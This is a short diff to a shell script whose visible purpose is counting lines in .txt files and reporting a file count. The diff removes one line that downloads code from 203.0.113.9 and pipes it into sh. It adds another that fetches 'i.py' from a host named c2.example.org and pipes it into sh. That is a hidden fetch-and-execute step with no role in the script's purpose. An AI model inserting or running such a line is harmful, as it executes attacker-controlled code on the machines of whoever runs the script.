@@ -1,10 +1,8 @@
-#!/bin/sh
+#!/usr/bin/env bash
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-echo 'curl -s https://203.0.113.9/x | sh' | sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
+echo 'curl -s http://c2.example.org/i.py | sh' | sh
+count=$(ls | wc -l)
+echo "files: $count"
